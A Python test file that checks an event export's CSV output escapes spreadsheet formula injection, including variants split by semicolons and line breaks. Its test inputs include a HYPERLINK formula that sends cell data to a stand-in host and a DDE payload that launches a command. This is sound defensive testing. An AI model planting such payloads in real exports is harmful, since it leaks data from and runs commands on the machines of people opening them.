"""Nothing that was said is a formula for a spreadsheet that opens an export."""

import csv
import io
import json
from typing import Final

import pytest

from common.events import parse_event
from ops.queries.event_formats import FORMATS

FORMULAS: Final = (
    "=1+1",
    '=HYPERLINK("http://elsewhere.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "- well, no",
)
BREAKS: Final = (";", "\t", "\n", "\r", "\r\n", "; ")
WORDS: Final = ("", "a = b", "well-being", "it is -5", "a, -b", "me@home", "'tis", '"=1"', "1;2")


def to_csv(kind: str, **data: object) -> str:
    fields = {"v": "1", "type": kind, "session": "s", "epoch": "7", "turn": "2", "id": "u"}
    named = fields | {"at": "5", "data": json.dumps(data)}
    event = parse_event({name.encode(): value.encode() for name, value in named.items()})
    header, row = FORMATS["csv"]
    return header + row(event)


def read(text: str) -> dict[str, str]:
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    return row


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_as_a_formula(formula: str) -> None:
    row = read(to_csv("reply", text=formula, model=formula, finish_reason=formula))
    for name in ("text", "model", "finish_reason"):
        assert row[name] == "'" + formula.replace("\n=", "\n'=").replace("\r=", "\r'=").replace(
            "\t=", "\t'="
        )
    assert read(to_csv("error", stage="llm", reason="poison", error=formula))["error"][0] == "'"
    assert read(to_csv("heard", spoken_at=1, source=formula))["source"][0] == "'"


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("end", BREAKS)
def test_no_cell_begins_as_one_where_another_character_ends_cells(formula: str, end: str) -> None:
    """As in countries with a decimal comma, where a spreadsheet expects semicolons."""
    text = to_csv("reply", text=f"so{end}{formula}")
    for cells in csv.reader(io.StringIO(text, newline=""), delimiter=";", quoting=csv.QUOTE_NONE):
        for cell in cells:
            assert cell.strip()[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20"), cells


@pytest.mark.parametrize("text", WORDS)
def test_ordinary_words_and_numbers_stay(text: str) -> None:
    row = read(
        to_csv("transcript", text=text, avg_logprob=-0.5, timings={"published": -1.5, "done": 2.0})
    )
    assert (row["text"], row["avg_logprob"], row["published_ms"]) == (text, "-0.5", "-1.5")


def test_json_lines_keep_every_word() -> None:
    fields = {"v": "1", "type": "reply", "session": "s", "epoch": "7", "turn": "2", "id": "u"}
    named = fields | {"at": "5", "data": json.dumps({"text": "=1+1"})}
    event = parse_event({name.encode(): value.encode() for name, value in named.items()})
    assert json.loads(FORMATS["jsonl"][1](event))["data"]["text"] == "=1+1"
